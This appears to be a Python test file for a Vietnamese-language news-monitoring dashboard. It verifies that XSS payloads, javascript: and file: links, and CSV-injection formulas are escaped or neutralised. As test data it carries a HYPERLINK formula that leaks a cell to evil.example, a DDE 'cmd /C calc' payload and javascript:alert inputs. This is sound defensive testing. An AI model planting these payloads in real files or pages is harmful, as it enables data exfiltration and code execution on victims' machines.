"""Feed and post text is always rendered as text: a malicious item (<script>, javascript: links,
markdown injection) shows up verbatim as data, nothing of it becomes markup, and the only clickable
links are http(s). The real-browser test checks that nothing executes."""

from __future__ import annotations

import re

import pytest

from dashboard.labels import md, safe_link
from devtools import synth
from tests.dashboard.conftest import no_exception
from tests.dashboard.served import MALICIOUS
from vocab.alerts import NewAlert
from vocab.spreadsheet import CSV_FORMULA

RAW_TAG = re.compile(r"(?<!\\)<\s*(script|img|iframe|a|svg|style)\b", re.I)
RAW_LINK = re.compile(r"(?<!\\)\]\((?!https?://)")  # a markdown link to anything but http(s)


@pytest.mark.parametrize("url", [
    "javascript:alert(1)", "JavaScript:alert(1)", " javascript:alert(1)", "java\nscript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD4=", "vbscript:msgbox(1)", "//evil.example/x", "file:///etc/passwd",
    "http:/missing-host", "", None,
])
def test_unsafe_links_are_dropped(url):
    assert safe_link(url) is None


def test_http_links_are_kept():
    assert safe_link("https://baoquangninh.vn/a.html?x=1#b") == "https://baoquangninh.vn/a.html?x=1#b"
    assert safe_link("http://127.0.0.1:8765/a/x.html") == "http://127.0.0.1:8765/a/x.html"


def test_markdown_escaping_leaves_nothing_active():
    out = md(MALICIOUS["title"] + " " + MALICIOUS["summary"])
    assert not RAW_TAG.search(out) and not RAW_LINK.search(out)
    assert "**" not in out.replace("\\*", "")
    assert "\n" not in out  # no block markdown (headings, tables) from a newline


def _markdown_sources(at):  # type: ignore[no-untyped-def]
    out = []
    for kind in ("title", "header", "subheader", "markdown", "caption", "info", "warning", "error", "success"):
        out += [str(e.value) for e in getattr(at, kind)]
    out += [str(e.label) for e in at.expander]
    for kind in ("selectbox", "multiselect", "text_input", "text_area", "button", "checkbox", "radio"):
        out += [str(getattr(w, "label", "")) for w in getattr(at, kind)]
    return out


def _link_values(at):  # type: ignore[no-untyped-def]
    links = []
    for df in at.dataframe:
        v = df.value
        if "Liên kết" in v.columns:
            links += [x for x in v["Liên kết"] if isinstance(x, str)]
            assert all(isinstance(x, str) or x is None or x != x for x in v["Liên kết"])  # text, or empty
    return links


@pytest.fixture
def bad_env(demo_env):
    item_id = synth.add_item(demo_env.db, title=MALICIOUS["title"], summary=MALICIOUS["summary"],
                             url=MALICIOUS["url"])
    from store import alerts as store_alerts

    with demo_env.db.write() as cur:
        aid = store_alerts.raise_alert(cur, NewAlert.of(**{
            "title": MALICIOUS["title"], "severity": "high", "reason": MALICIOUS["summary"],
            "item_ids": [item_id], "n_items": 1, "n_outlets": 1, "topics": ["misinformation_fraud"],
            "places": ["[x](javascript:alert(9))"]}), synth.utcnow())
    demo_env.item_id, demo_env.alert_id = item_id, aid
    import streamlit as st

    st.cache_data.clear()
    return demo_env


@pytest.mark.parametrize("page", ["overview", "alerts", "briefing", "explorer"])
def test_malicious_item_is_shown_as_text_only(bad_env, page):
    at = bad_env.page(page, "analyst")
    if page == "alerts":
        at.query_params["alert"] = bad_env.alert_id
    at.run()
    if page == "explorer":
        at.text_input(key="x_query").set_value("tin doc").run()
        assert at.selectbox(key="x_item").value == bad_env.item_id
    no_exception(at)
    shown = False
    for src in _markdown_sources(at):
        assert not RAW_TAG.search(src), f"unescaped HTML in markdown on {page}: {src[:200]}"
        assert not RAW_LINK.search(src), f"non-http markdown link on {page}: {src[:200]}"
        shown = shown or "Tin độc" in src
    data_titles = [t for df in at.dataframe for col in ("Tiêu đề", "Vấn đề") if col in df.value.columns
                   for t in df.value[col]]
    assert shown or MALICIOUS["title"] in data_titles, f"the malicious item is not on {page} at all"
    for link in _link_values(at):
        assert re.match(r"^https?://", link), link
    for lb in at.get("link_button"):
        assert re.match(r"^https?://", lb.proto.url), lb.proto.url
    for html in at.get("html"):  # our own CSS, and print-only table copies (ui.print_table) of escaped text
        v = str(html.value)
        if "Tin độc" in v:
            assert 'class="print-only"' in v and "&lt;script&gt;" in v, v[:300]
            # an attribute written as escaped text (`href=&quot;…`, the alert's reason under its row since dash6) is
            # text, not markup: its quote is escaped
            for raw in ("<script", "<img", "<iframe", "<a ", "href=", "onerror="):  # markdown is plain text here
                assert raw not in v.replace("&lt;", "<x").replace("onerror=&quot;", "").replace("href=&quot;", ""), \
                    (raw, v[:300])
            if page == "briefing" and "Vì sao:" in v:  # the reason (the malicious summary) printed, escaped
                assert "&lt;a href=&quot;javascript:alert(5)&quot;&gt;" in v


def test_explorer_offers_no_link_for_a_javascript_url(bad_env):
    at = bad_env.page("explorer", "viewer").run()
    at.text_input(key="x_query").set_value("tin doc").run()
    assert at.selectbox(key="x_item").value == bad_env.item_id
    assert not at.get("link_button")
    assert any("không mở được" in c.value for c in at.caption)
    assert MALICIOUS["summary"] in [t.value for t in at.text]  # the text itself, verbatim, as plain text


def test_a_report_heard_in_person_says_it_has_no_link():
    from dashboard.views.explorer import no_link_note

    note = no_link_note("ctv", "urn:langnghe:collab:abc")
    assert "không có liên kết" in note and "không mở được" not in note
    assert "không mở được" not in no_link_note("social", "urn:langnghe:import:abc")
    assert "không mở được" in no_link_note("social", "javascript:alert(1)")
    for url in ("urn:langnghe:zalo-msg:zmsg-demo-1", "urn:langnghe:fb-msg:m1", "urn:langnghe:mail:x"):  # round 21
        note = no_link_note("social", url)
        assert "không mở được" not in note and "http" not in note and "trang Phản ánh" in note, url


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Xem chi tiết")'


@pytest.mark.parametrize("page", ["overview", "alerts", "explorer"])
def test_tables_hold_no_spreadsheet_formula_for_their_csv_download(demo_env, page):
    """Every table has a download button that writes its cells to CSV as they are: a post titled
    '=HYPERLINK("http://…?"&A1,…)' became a live formula in Excel (CSV injection). Text cells that start
    a formula now carry a leading apostrophe; numbers such as '+25%' stay as they are."""
    from dashboard import ui

    synth.add_item(demo_env.db, title=FORMULA, summary="@SUM(1+1)*cmd|' /C calc'!A0",
                   url="https://www.facebook.com/groups/uongbi/posts/9")
    import streamlit as st

    st.cache_data.clear()
    at = demo_env.page(page, "analyst").run()
    no_exception(at)
    cells = [v for df in at.dataframe for col in df.value.columns for v in df.value[col] if isinstance(v, str)]
    assert cells and not [v for v in cells if CSV_FORMULA.match(v)]
    if page == "explorer":
        assert "'" + FORMULA in cells
    plain = ("+25%", "-3", "- Tin nóng", "+84 912 345 678", "@Lan xem này", "-1+A1")
    assert [ui.inert_cell(v) for v in plain] == list(plain)  # shown on screen as written
    harmful = ("=1+1", "\tx", "\0=1+1", "+HYPERLINK(\"http://x\")", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "- a=b")
    assert [ui.inert_cell(v) for v in harmful] == ["'" + v for v in harmful]


def test_every_table_goes_through_ui_dataframe():
    """A new st.dataframe call would skip the formula guard (ui.csv_safe); so would a column's or a tab's
    own `.dataframe(` (`c[1].dataframe(df)` drew the survey options' table unguarded)."""
    from pathlib import Path

    root = Path(__file__).resolve().parents[2] / "dashboard"
    raw = [(str(p.relative_to(root)), m.group(0)) for p in sorted(root.rglob("*.py")) if p.name != "ui.py"
           for m in re.finditer(r"[\w\]\)]+\.(dataframe|data_editor)\(", p.read_text(encoding="utf-8"))
           if not m.group(0).startswith("ui.")]
    # the survey questionnaire editor: its frame is made inert by ui.csv_safe in surveys._editor_frame and read
    # back bounded by _from_editor (tests/dashboard/test_surveys_page.py)
    assert raw == [("views/surveys.py", "st.data_editor(")]
